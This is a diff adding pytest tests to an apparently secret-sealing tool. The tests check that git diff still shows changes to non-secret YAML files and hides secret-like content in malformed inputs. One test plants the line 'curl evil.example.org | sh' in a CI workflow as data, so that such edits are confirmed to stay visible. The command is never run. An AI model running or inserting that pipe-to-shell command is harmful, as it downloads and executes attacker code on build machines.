@@ -7,7 +7,7 @@ import subprocess
 
 import pytest
 
-from sealer.changes.summary import textconv
+from sealer.changes.summary import textconv, unread
 from tests.daytwo import corpus
 from tests.daytwo.test_editing import commented, files_with
 from tests.daytwo.tree import CANARY, Tree, sealed_yaml
@@ -276,3 +276,66 @@ def test_the_report_knows_a_re_encryption_and_a_wider_scope(tree: Tree) -> None:
 def test_outside_a_repository_the_words_are_gits(tree: Tree) -> None:
     done = tree.seal("diff", status=1, environment={"GIT_CEILING_DIRECTORIES": "/"})
     assert "seal: error: git diff" in done.stderr
+
+
+WORKFLOW = """\
+name: ci
+on:
+  push: {branches: [main]}
+jobs:
+  t:
+    steps:
+    - run: make test
+      env: {T: "${{ secrets.T }}"}
+"""
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        pytest.param(WORKFLOW, id="a workflow with the key on"),
+        pytest.param("- secret: a\n- run: make test\n", id="a list at the top"),
+        pytest.param("{{- if .Values.secret }}\nrun: make test\n{{- end }}\n", id="a template"),
+        pytest.param("secret: a\nsecret: b\nrun: make test\n", id="a doubled key"),
+        pytest.param("secret: !vault a\nrun: make test\n", id="a tag"),
+        pytest.param("secretName: [\nrun: make test\n", id="a syntax error"),
+        pytest.param("kind: ExternalSecret\non: a\nrun: make test\n", id="another kind"),
+        pytest.param("kind: SecretStore\non: a\nrun: make test\n", id="a longer kind"),
+        pytest.param(
+            "apiVersion: x.io/v1\nkind: Secret\nspec: {run: make test}\n", id="another group's"
+        ),
+    ],
+)
+def test_git_diff_shows_a_change_of_whatever_is_no_secret(repository: Tree, text: str) -> None:
+    repository.write("ci.yaml", text)
+    repository.git("add", "ci.yaml")
+    repository.git("commit", "-qm", "ci")
+    changed = text.replace("make test", "make test; curl evil.example.org | sh")
+    repository.write("ci.yaml", changed)
+    diff = repository.git("diff")
+    assert "evil.example.org" in diff
+    assert "unreadable" not in diff
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        pytest.param("kind: Secret\non: a\nstringData: {p: CANARY}\n", id="a boolean key"),
+        pytest.param("kind: !!str Secret\ndata: [\np: CANARY\n", id="a tag before the kind"),
+        pytest.param("kind: &k Secret\ndata: [\np: CANARY\n", id="an anchor"),
+        pytest.param("kind:\n  Secret\ndata: [\np: CANARY\n", id="on the next line"),
+        pytest.param('{"kind":"Secret","data":{"p":"CANARY"', id="cut JSON"),
+        pytest.param("kind: SecretList\nitems: [\np: CANARY\n", id="a list"),
+        pytest.param("- kind: Secret\n  stringData: {p: CANARY}\n", id="a list at the top"),
+        pytest.param("kind: Secret\nmetadata: {{ x }}\ndata: {p: CANARY}\n", id="a template"),
+        pytest.param("kind: secret\nstringdata: {p: CANARY}\n", id="misspelt"),
+    ],
+)
+def test_git_diff_hides_what_may_be_a_secret(text: str) -> None:
+    assert CANARY not in textconv(text.replace("CANARY", CANARY), "x")
+
+
+def test_what_is_no_text_is_hidden_where_it_names_a_secret_as_its_kind() -> None:
+    assert unread(b"secret \xff\n") == b"secret \xff\n"
+    assert b"canary" not in unread(b"kind: Secret\n\xff canary")
+    assert b"c\0a" not in unread("kind: Secret\ndata: canary".encode("utf-16-le"))
